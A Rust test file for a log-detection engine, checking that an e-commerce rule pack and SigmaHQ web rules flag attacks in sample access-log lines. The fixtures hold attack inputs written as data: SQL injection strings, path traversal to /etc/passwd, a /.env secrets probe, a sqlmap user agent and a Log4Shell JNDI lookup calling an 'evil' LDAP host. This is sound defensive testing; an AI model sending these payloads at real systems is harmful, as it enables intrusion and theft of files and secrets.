//! The e-commerce rule pack in `rules/ecommerce/`: every rule loads, and every
//! rule fires on its `tests/<stem>.match.jsonl` samples and stays silent on its
//! `tests/<stem>.nomatch.jsonl` samples (with the whole pack loaded, as in use).

use std::collections::HashSet;
use std::path::{Path, PathBuf};

use bulwark_detect::{parse_line, CompileOptions, Detection, Engine, LogFormat, RuleSet};

fn pack_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/ecommerce")
}

fn pack_sources() -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut entries: Vec<_> = std::fs::read_dir(pack_dir())
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .collect();
    entries.sort();
    for p in entries {
        if p.extension().is_some_and(|x| x == "yml") {
            out.push((
                p.display().to_string(),
                std::fs::read_to_string(&p).unwrap(),
            ));
        }
    }
    out
}

fn engine(sources: &[(String, String)]) -> Engine {
    let (set, reports) = RuleSet::load(sources, CompileOptions::ecs());
    let bad: Vec<_> = reports.iter().filter(|r| !r.is_loaded()).collect();
    assert!(bad.is_empty(), "{bad:#?}");
    set.compile()
}

/// Runs a sample file three ways (fully parsed events, the engine's projected
/// parsing, and direct line processing) and checks all give the same detections.
fn run(sources: &[(String, String)], samples: &Path) -> Vec<Detection> {
    let text =
        std::fs::read_to_string(samples).unwrap_or_else(|e| panic!("{}: {e}", samples.display()));
    let mut full = engine(sources);
    let mut projected = engine(sources);
    let mut direct = engine(sources);
    let (mut a, mut b, mut c): (Vec<Detection>, Vec<Detection>, Vec<Detection>) =
        Default::default();
    for (i, line) in text.lines().enumerate() {
        if line.trim().is_empty() {
            continue;
        }
        let n = i as u64 + 1;
        let ev = parse_line(LogFormat::JsonLines, line, n)
            .unwrap_or_else(|e| panic!("{}: {e}", samples.display()));
        a.extend(full.process(&ev));
        let ev = projected.parse_line(LogFormat::JsonLines, line, n).unwrap();
        b.extend(projected.process(&ev));
        c.extend(
            direct
                .process_line(LogFormat::JsonLines, line, n, None)
                .unwrap(),
        );
    }
    let name = samples.display();
    assert_eq!(a, b, "projected parsing changed the result for {name}");
    assert_eq!(a, c, "direct line processing changed the result for {name}");
    a
}

/// Ids of every document in a rule file (a file may hold a correlation and its base rules).
fn ids_in(text: &str) -> HashSet<String> {
    text.lines()
        .filter_map(|l| l.strip_prefix("id: "))
        .map(|s| s.trim().to_string())
        .collect()
}

#[test]
fn pack_has_enough_rules_and_all_load() {
    let sources = pack_sources();
    assert!(sources.len() >= 25, "only {} rule files", sources.len());
    let (_, reports) = RuleSet::load(&sources, CompileOptions::ecs());
    assert!(reports.iter().all(|r| r.is_loaded()), "{reports:#?}");
}

#[test]
fn every_rule_behaves_as_its_samples_say() {
    let sources = pack_sources();
    let mut failures = Vec::new();
    for (path, text) in &sources {
        let stem = Path::new(path)
            .file_stem()
            .unwrap()
            .to_string_lossy()
            .to_string();
        let ids = ids_in(text);
        let tests = pack_dir().join("tests");
        let hits = |file: &str| {
            run(&sources, &tests.join(file))
                .into_iter()
                .filter(|d| ids.contains(&d.rule_id))
                .count()
        };
        let m = hits(&format!("{stem}.match.jsonl"));
        let n = hits(&format!("{stem}.nomatch.jsonl"));
        if m == 0 {
            failures.push(format!("{stem}: no detection on its match samples"));
        }
        if n != 0 {
            failures.push(format!("{stem}: {n} detections on its nomatch samples"));
        }
    }
    assert!(failures.is_empty(), "{failures:#?}");
}

#[test]
fn hunting_a_combined_log_reports_malformed_lines_and_finds_attacks() {
    let log = r#"203.0.113.5 - - [20/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 512 "-" "Mozilla/5.0"
this line is not an access log line
203.0.113.6 - - [20/Nov/2026:10:00:01 +0000] "GET /products?id=1%27+OR+1=1-- HTTP/1.1" 200 99 "-" "Mozilla/5.0"
203.0.113.7 - - [20/Nov/2026:10:00:02 +0000] "GET /.env HTTP/1.1" 404 0 "-" "sqlmap/1.7"
203.0.113.8 - - [bad time] "GET / HTTP/1.1" 200 1 "-" "-"
203.0.113.9 - - [20/Nov/2026:10:00:03 +0000] "GET /download?file=../../etc/passwd HTTP/1.1" 200 1 "-" "Mozilla/5.0"
"#;
    let sources = pack_sources();
    let mut e = engine(&sources);
    let mut malformed = Vec::new();
    let mut titles = Vec::new();
    for (i, line) in log.lines().enumerate() {
        match parse_line(LogFormat::Combined, line, i as u64 + 1) {
            Ok(ev) => titles.extend(e.process(&ev).into_iter().map(|d| d.rule_title)),
            Err(m) => malformed.push(m.line_no),
        }
    }
    assert_eq!(malformed, vec![2, 5]);
    for want in [
        "SQL Injection Attempt On The Storefront",
        "Probe For Secrets Or Source Files",
        "Vulnerability Scanner User Agent",
        "Path Traversal Attempt On The Storefront",
    ] {
        assert!(
            titles.iter().any(|t| t == want),
            "missing {want} in {titles:?}"
        );
    }
}

#[test]
fn sigmahq_web_rules_run_on_parsed_access_logs() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/sigmahq-web");
    let mut sources = Vec::new();
    for p in std::fs::read_dir(&dir).unwrap().flatten().map(|e| e.path()) {
        if p.extension().is_some_and(|x| x == "yml") {
            sources.push((
                p.display().to_string(),
                std::fs::read_to_string(&p).unwrap(),
            ));
        }
    }
    assert!(sources.len() >= 16);
    let mut e = engine(&sources);
    let log = [
        r#"203.0.113.6 - - [20/Nov/2026:10:00:01 +0000] "GET /products?id=1%20UNION%20SELECT%201,2 HTTP/1.1" 200 99 "-" "Mozilla/5.0""#,
        r#"203.0.113.9 - - [20/Nov/2026:10:00:03 +0000] "GET /download?file=../../../etc/passwd HTTP/1.1" 200 1 "-" "Mozilla/5.0""#,
        r#"203.0.113.10 - - [20/Nov/2026:10:00:04 +0000] "GET /?x=${jndi:ldap://evil:1389/Basic/Command/Base64/aWQ=} HTTP/1.1" 200 1 "-" "Mozilla/5.0""#,
        r#"203.0.113.11 - - [20/Nov/2026:10:00:05 +0000] "GET /products/42 HTTP/1.1" 200 1 "-" "Mozilla/5.0""#,
    ];
    let per_line: Vec<Vec<String>> = log
        .iter()
        .enumerate()
        .map(|(i, l)| {
            let ev = parse_line(LogFormat::Combined, l, i as u64 + 1).unwrap();
            e.process(&ev).into_iter().map(|d| d.rule_title).collect()
        })
        .collect();
    assert!(
        per_line[0].iter().any(|t| t.contains("SQL Injection")),
        "{per_line:?}"
    );
    assert!(
        per_line[1].iter().any(|t| t.contains("Path Traversal")),
        "{per_line:?}"
    );
    assert!(
        per_line[2].iter().any(|t| t.contains("JNDI")),
        "{per_line:?}"
    );
    assert!(per_line[3].is_empty(), "{per_line:?}");
}
